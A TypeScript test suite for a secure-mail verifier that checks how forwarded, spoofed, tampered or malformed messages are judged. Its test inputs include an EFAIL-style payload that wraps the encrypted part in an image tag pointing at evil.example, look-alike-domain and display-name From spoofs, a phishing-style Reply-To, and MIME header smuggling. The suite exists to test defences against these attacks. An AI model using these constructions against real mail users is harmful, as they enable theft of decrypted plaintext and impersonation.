/** What a reader believes (docs/protocol.md §12): everything else is a problem, or cannot be checked now. */
import { beforeAll, describe, expect, it } from 'vitest';
import { type Bytes, utf8 } from '../../src/core/bytes.ts';
import { type Judgement, judgeMail, type Reader } from '../../src/flow/open.ts';
import { buildCarrier, mailBytes } from '../../src/mail/carrier.ts';
import { native } from '../flow/world.ts';
import { craft } from './craft.ts';
import { REPORT } from './delivery-report.ts';
import { chain, createScene, flip, HANAKO, inner, JIRO, KEN, mail, read, type Scene, seal, SUZU, TARO } from './scene.ts';

let scene: Scene;
let leg3: Bytes;
beforeAll(async () => {
  scene = await createScene();
  ({ leg3 } = await chain(scene));
});

async function judge(raw: Bytes, reader: Partial<Reader> = {}): Promise<Judgement> {
  return judgeMail(raw, {
    native, credentials: [scene.hanako], addresses: [HANAKO], trust: await scene.world.trust(), now: scene.world.now, ...reader,
  });
}

describe('a genuine mail', () => {
  it('is verified and opened', async () => {
    expect(await judge(mail(leg3, [HANAKO]))).toMatchObject({ state: 'verified', content: 'opened', message: { conflicts: [] } });
  });
});

describe('surreptitious forwarding', () => {
  it('is "not addressed to you", with or without a key for it', async () => {
    expect(await read(scene, mail(leg3, [HANAKO]), scene.jiro, JIRO)).toMatchObject({ state: 'problem', code: 'not-addressed', content: 'not-opened' });
    const { cms } = await craft(scene, 3, { targets: [{ purpose: 'deliver', certificate: scene.jiro.certificate }] });
    expect(await read(scene, mail(cms, [HANAKO]), scene.jiro, JIRO)).toMatchObject({ state: 'problem', code: 'not-addressed', content: 'not-opened' });
  });
});

describe('outer From', () => {
  it.each([
    ['another address', [['From', KEN]]],
    ['none', []],
    ['two fields', [['From', TARO], ['From', KEN]]],
    ['two addresses', [['From', `${TARO}, ${KEN}`]]],
    ['a comment', [['From', `${TARO} (${KEN})`]]],
    ['an address as display name before another', [['From', `"${TARO}" <x@outside.example>`]]],
    ['a look-alike domain', [['From', 'taro@xn--hinde-jua.example']]],
  ] as const)('%s is a problem', async (_, fields) => {
    const judgement = await judge(mailBytes(buildCarrier([...fields], leg3)));
    expect(judgement).toMatchObject({ state: 'problem', content: 'not-opened' });
  });
});

describe('leg 3', () => {
  it("only from the recipient's own organisation", async () => {
    const { cms } = await craft(scene, 3, { recipients: [SUZU] });
    expect(await judge(mail(cms, [SUZU]), { addresses: [SUZU] })).toMatchObject({ state: 'problem', code: 'impersonation', detail: 'recipient-not-of-organisation' });
  });
  it('only for one mailbox', async () => {
    const { cms } = await craft(scene, 3, { recipients: [HANAKO, JIRO] });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'problem', detail: 'leg-invalid' });
  });
  it('not from the future', async () => {
    const { cms } = await craft(scene, 3, { signingTime: new Date(scene.world.now.getTime() + 11 * 60_000) });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'cannot-check', code: 'clock-wrong' });
  });
  it('whose key is not here cannot be checked now', async () => {
    expect(await judge(mail(leg3, [HANAKO]), { credentials: [scene.jiro] })).toMatchObject({ state: 'cannot-check', code: 'key-missing' });
  });
});

describe('leg 1', () => {
  it("only the sender's own", async () => {
    const cms = await seal(scene, [HANAKO]);
    expect(await read(scene, mail(cms, [HANAKO]), scene.taro, TARO)).toMatchObject({ state: 'verified', code: 'own-copy' });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'problem', code: 'not-addressed' });
    expect(await judge(mail(cms, [HANAKO]), { addresses: [TARO] })).toMatchObject({ state: 'cannot-check', code: 'key-missing' });
  });
});

describe('the inner mail', () => {
  it('must come from the certified sender: a stripped signature cannot be replaced by one’s own', async () => {
    const { cms } = await craft(scene, 3, { entity: inner([HANAKO], KEN) });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'problem', code: 'impersonation', detail: 'from-mismatch', content: 'not-opened' });
  });
  it('must have protected headers', async () => {
    const { cms } = await craft(scene, 3, { entity: utf8('Content-Type: text/plain\r\n\r\nhello\r\n') });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'problem', content: 'not-opened' });
  });
  it('must be MIME that reads in one way only', async () => {
    const { cms } = await craft(scene, 3, { entity: utf8('From: taro@hinode.example\r\nContent-Type: text/plain; hp=cipher\r\nContent-Type: text/html\r\n\r\nhello\r\n') });
    expect(await judge(mail(cms, [HANAKO]))).toMatchObject({ state: 'problem', content: 'not-opened' });
  });
  it('is compared with the outer headers: what differs is shown, the inner counts', async () => {
    const raw = mailBytes(buildCarrier([['From', TARO], ['To', `${HANAKO}, ${SUZU}`], ['Reply-To', 'evil@outside.example'], ['Subject', 'Pay now']], leg3));
    const { state, message } = await judge(raw);
    expect(state).toBe('verified');
    expect(message?.conflicts.map(({ field }) => field)).toEqual(['to', 'reply-to', 'subject']);
    expect(message?.headers).toMatchObject({ subject: 'Estimate', to: [{ address: HANAKO }], replyTo: [] });
  });
});

describe('the sealed part', () => {
  const part = (cms: Bytes): string => [
    'Content-Type: application/cms; name="message.ssmax"', 'Content-Disposition: attachment; filename="message.ssmax"',
    'Content-Transfer-Encoding: base64', '', Buffer.from(cms).toString('base64'), '',
  ].join('\r\n');
  const multipart = (type: string, parts: readonly string[], fields: readonly string[] = ['X-SSMAX: 1']): Bytes => utf8([
    `From: ${TARO}`, `To: ${HANAKO}`, ...fields, 'MIME-Version: 1.0', `Content-Type: ${type}; boundary=b`, '',
    ...parts.map((one) => `--b\r\n${one}`), '--b--', '',
  ].join('\r\n'));
  const html = (text: string): string => `Content-Type: text/html\r\n\r\n${text}\r\n`;

  it.each([
    ['between two pieces of an image tag (EFAIL)', () => multipart('multipart/mixed', [html('<img src="https://evil.example/'), part(leg3), html('">')])],
    ['under multipart/related', () => multipart('multipart/related', ['Content-Type: text/plain\r\n\r\nhello\r\n', part(leg3)])],
    ['in a multipart of its own', () => multipart('multipart/mixed', [`Content-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\n${part(leg3)}--c--\r\n`])],
    ['in a forwarded mail', () => multipart('multipart/mixed', [`Content-Type: message/rfc822\r\n\r\n${part(leg3)}`])],
    ['twice', () => multipart('multipart/mixed', [part(leg3), part(leg3)])],
    ['beside a text of its name', () => multipart('multipart/mixed', ['Content-Type: text/plain; name="message.ssmax"\r\n\r\nhello\r\n', part(leg3)])],
    ['under two marks', () => multipart('multipart/mixed', [part(leg3)], ['X-SSMAX: 1', 'X-SSMAX: 1'])],
    ['alone, without the carrier around it', () => utf8(`From: ${TARO}\r\nX-SSMAX: 1\r\n${part(leg3)}`)],
  ])('%s is not opened', async (_, raw) => {
    expect(await judge(raw())).toMatchObject({ state: 'problem', content: 'not-opened' });
  });

  it('altered by one bit anywhere is not opened', async () => {
    for (let at = 0; at < leg3.length; at += 41) {
      expect(await judge(mail(flip(leg3, at), [HANAKO])), `byte ${at}`).toMatchObject({ state: 'problem', content: 'not-opened' });
    }
  });
});

describe('mail without a seal', () => {
  const plain = (...fields: string[]): Bytes => utf8([...fields, '', 'hello', ''].join('\r\n'));
  it('is outside, or impersonation where the domain always signs', async () => {
    expect(await judge(plain('From: x@outside.example'))).toMatchObject({ state: 'outside', code: 'outside' });
    for (const from of [TARO, `"${TARO}" <x@outside.example>`, `x@outside.example (${TARO})`]) {
      expect(await judge(plain(`From: ${from}`)), from).toMatchObject({ state: 'problem', code: 'impersonation' });
    }
    expect(await judge(plain('From: x@outside.example', `Sender: ${TARO}`))).toMatchObject({ state: 'problem', code: 'impersonation' });
  });
  it('a delivery report is never verified, and speaks in no person’s name', async () => {
    expect(await judge(plain('From: MAILER-DAEMON@hinode.example', ...REPORT))).toMatchObject({ state: 'outside', code: 'delivery-report' });
    expect(await judge(plain('From: bounces@outside.example', ...REPORT))).toMatchObject({ state: 'outside', code: 'delivery-report' });
    expect(await judge(plain(`From: ${TARO}`, ...REPORT))).toMatchObject({ state: 'problem', code: 'impersonation' });
    expect(await judge(plain('From: "MAILER-DAEMON@hinode.example" <taro@hinode.example>', ...REPORT))).toMatchObject({ state: 'problem', code: 'impersonation' });
  });
});
